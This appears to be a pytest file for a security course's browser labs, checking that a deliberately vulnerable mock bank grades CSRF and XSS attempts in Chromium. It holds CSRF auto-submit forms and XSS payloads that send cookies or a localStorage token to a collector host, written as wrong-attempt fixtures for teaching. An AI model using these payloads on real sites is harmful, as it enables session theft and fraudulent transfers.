"""The browser attack labs (issue 17), in Chromium: the bank decides "solved", the blank lab is not
solved, the wrong attempts learners make are not solved and the bank says why, every solution solves
its lab and the hardened bank refuses the same attack."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any
from urllib.parse import quote

import httpx
import nbformat
import pytest
from conftest import require

from authcourse.browserlab.browser import Browser, chromium_path
from authcourse.vulnerable.browserlabs import VULNERABLE_BROWSER_LABS, VulnerableBrowserLabSession

pytestmark = pytest.mark.browser
ROOT = Path(__file__).resolve().parents[1]
NOTEBOOKS = {
    nbformat.read(path, as_version=4).metadata["authcourse"]["lab"]: path
    for path in sorted((ROOT / "solutions").glob("12-Lab-*.ipynb"))
}


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    require(chromium_path(), "chromium not installed (apt-get install chromium, or set AUTHCOURSE_CHROMIUM)")
    with Browser() as started:
        yield started


def solution(lab_id: str) -> Callable[[Any], str]:
    """The `attack` of the lab's solution notebook."""
    cell = next(c for c in nbformat.read(NOTEBOOKS[lab_id], as_version=4).cells if c.source.startswith("def attack"))
    namespace: dict[str, Any] = {"quote": quote}
    exec(compile(cell.source, str(NOTEBOOKS[lab_id]), "exec"), namespace)
    return namespace["attack"]


def visited(browser: Browser, lab_id: str, attack: Callable[[Any], str], hardened: bool = False) -> dict[str, Any]:
    session = VulnerableBrowserLabSession(lab_id, browser=browser, hardened=hardened)
    try:
        assert session.status()["solved"] is False
        session.victim_visits(attack(session))
        return session.status()
    finally:
        session.stop()


def test_every_browser_lab_has_a_solution_and_an_exercise_notebook() -> None:
    assert set(NOTEBOOKS) == set(VULNERABLE_BROWSER_LABS)
    for path in NOTEBOOKS.values():
        text = (ROOT / "exercises" / path.name).read_text()
        assert "BEGIN SOLUTION" not in text and "raise NotImplementedError()" in text


@pytest.fixture(scope="module")
def shared(browser: Browser) -> Iterator[dict[str, VulnerableBrowserLabSession]]:
    """One bank per lab for the wrong attempts (the bank judges each visit on what that visit caused)."""
    sessions: dict[str, VulnerableBrowserLabSession] = {}
    yield sessions
    for session in sessions.values():
        session.stop()


@pytest.mark.parametrize("lab_id", list(VULNERABLE_BROWSER_LABS))
def test_the_blank_lab_is_not_solved_the_solution_solves_it_and_the_hardened_bank_refuses_it(
    browser: Browser, lab_id: str
) -> None:
    session = VulnerableBrowserLabSession(lab_id, browser=browser)
    try:
        status = session.status()
        assert status["solved"] is False and "visited nothing yet" in status["why"]
        session.victim_visits(solution(lab_id)(session))
        status = session.status()
        assert status["solved"] is True and status["why"] is None, status
    finally:
        session.stop()
    hardened = visited(browser, lab_id, solution(lab_id), hardened=True)
    assert hardened["solved"] is False, hardened
    if lab_id == "xss-localstorage":
        assert hardened["stolen"] == 1, "the script ran and sent what it could read: no token"
    else:
        codes = {attempt["status"] for attempt in hardened["attempts"]}
        assert codes and codes <= {401, 405}, hardened


def form(action: str, method: str = "post", submit: bool = True) -> str:
    fields = '<input name="to" value="mallory"><input name="amount" value="1000">'
    script = '<script>document.getElementById("f").submit()</script>' if submit else ""
    return f'<form id="f" method="{method}" action="{action}">{fields}</form>{script}'


WRONG: list[tuple[str, str, Callable[[Any], str], str]] = [
    # lab, the mistake, attack, words the bank's `why` must say
    (
        "csrf-samesite-none",
        "the form posts to the attacker's own site",
        lambda lab: lab.publish("p", form(f"{lab.evil}/lab/attack/transfer")),
        "not to the bank",
    ),
    (
        "csrf-samesite-none",
        "fetch() instead of a form",
        lambda lab: lab.publish(
            "p",
            f"<script>fetch('{lab.bank}/lab/attack/transfer', {{method: 'POST', credentials: "
            "'include', mode: 'no-cors', body: new URLSearchParams({to: 'mallory', amount: '1000'})})"
            "</script>",
        ),
        "third-party",
    ),
    (
        "csrf-samesite-none",
        "a form nobody submits",
        lambda lab: lab.publish("p", form(f"{lab.bank}/lab/attack/transfer", submit=False)),
        "send it by itself",
    ),
    (
        "csrf-default-two-minutes",
        "an <img> to the transfer",
        lambda lab: lab.publish("p", f'<img src="{lab.bank}/lab/attack/transfer?to=mallory&amount=1000">'),
        "only POST moves money here",
    ),
    (
        "csrf-default-two-minutes",
        "fetch() instead of a form",
        lambda lab: lab.publish(
            "p",
            f"<script>fetch('{lab.bank}/lab/attack/transfer', {{method: 'POST', credentials: "
            "'include', mode: 'no-cors', body: new URLSearchParams({to: 'mallory', amount: '1000'})})"
            "</script>",
        ),
        "fetch() is not a top-level navigation: Chromium treats a cookie without SameSite",
    ),
    (
        "csrf-default-two-minutes",
        "the form posts to the attacker's own site",
        lambda lab: lab.publish("p", form(f"{lab.evil}/lab/attack/transfer")),
        "not to the bank",
    ),
    (
        "csrf-lax-get",
        "an <img> to the GET transfer",
        lambda lab: lab.publish("p", f'<img src="{lab.bank}/lab/attack/transfer?to=mallory&amount=1000">'),
        "not a top-level navigation",
    ),
    (
        "csrf-lax-get",
        "a cross-site POST form",
        lambda lab: lab.publish("p", form(f"{lab.bank}/lab/attack/transfer")),
        "does not carry a Lax cookie",
    ),
    (
        "csrf-lax-get",
        "fetch() to the GET transfer",
        lambda lab: lab.publish(
            "p",
            f"<script>fetch('{lab.bank}/lab/attack/transfer?to=mallory&amount=1', "
            "{credentials: 'include', mode: 'no-cors'})</script>",
        ),
        "fetch() is not a top-level",
    ),
    (
        "xss-localstorage",
        "document.cookie instead of localStorage",
        lambda lab: (
            f"{lab.bank}/lab/search?q="
            + quote(
                f"<script>new Image().src = '{lab.collector}?c=' + encodeURIComponent(document.cookie)</script>",
                safe="",
            )
        ),
        "not in document.cookie",
    ),
    (
        "xss-localstorage",
        "the script on the attacker's own page",
        lambda lab: lab.publish(
            "p",
            f"<script>new Image().src = '{lab.collector}?t=' + "
            "encodeURIComponent(localStorage.getItem('token'))</script>",
        ),
        "ran on evil.test",
    ),
    (
        "xss-localstorage",
        "the payload not URL-encoded (its + become spaces)",
        lambda lab: (
            f"{lab.bank}/lab/search?q=<script>new Image().src = '{lab.collector}?t=' + "
            "encodeURIComponent(localStorage.getItem('token'))</script>"
        ),
        "URL-encoded",
    ),
]


@pytest.mark.parametrize(("lab_id", "mistake", "attack", "words"), WRONG, ids=[f"{w[0]}: {w[1]}" for w in WRONG])
def test_a_wrong_attempt_is_not_solved_and_the_bank_says_why(browser, shared, lab_id, mistake, attack, words) -> None:
    if lab_id not in shared:
        shared[lab_id] = VulnerableBrowserLabSession(lab_id, browser=browser)
    session = shared[lab_id]
    session.victim_visits(attack(session))
    status = session.status()
    assert status["solved"] is False, status
    assert words in status["why"], status["why"]


def test_every_browser_lab_has_at_least_three_wrong_attempts() -> None:
    for lab_id in VULNERABLE_BROWSER_LABS:
        assert sum(1 for wrong in WRONG if wrong[0] == lab_id) >= 3, lab_id


def test_the_default_lab_cookie_really_has_no_samesite_and_the_others_say_theirs(browser: Browser) -> None:
    for lab_id, expected in (
        ("csrf-default-two-minutes", None),
        ("csrf-samesite-none", "None"),
        ("csrf-lax-get", "Lax"),
    ):
        session = VulnerableBrowserLabSession(lab_id, browser=browser)
        try:
            response = httpx.post(
                session.server.url("127.0.0.1", "/login"),
                json={"email": "bob@example.com", "password": "builder"},
                verify=False,
                timeout=10,
            )
            header = response.headers["set-cookie"]
            assert ("samesite" not in header.lower()) if expected is None else f"SameSite={expected}" in header, header
        finally:
            session.stop()


def test_a_transfer_from_a_session_of_your_own_is_not_the_victims(browser: Browser) -> None:
    session = VulnerableBrowserLabSession("csrf-samesite-none", browser=browser)
    try:
        session.victim_visits(session.publish("p", "<p>nothing here</p>"))
        port = session.server.ports["https"]
        with httpx.Client(
            base_url=f"https://127.0.0.1:{port}", headers={"host": f"bank.test:{port}"}, verify=False
        ) as me:
            assert me.post("/login", json={"email": "alice@example.com", "password": "wonderland"}).status_code == 200
            moved = me.post("/lab/attack/transfer", data={"to": "mallory", "amount": "1000"})
        assert moved.status_code == 200, moved.text  # the bank moved alice's money: on mallory's own login as alice
        status = session.status()
        assert status["solved"] is False and "a session of your own" in status["why"], status
    finally:
        session.stop()
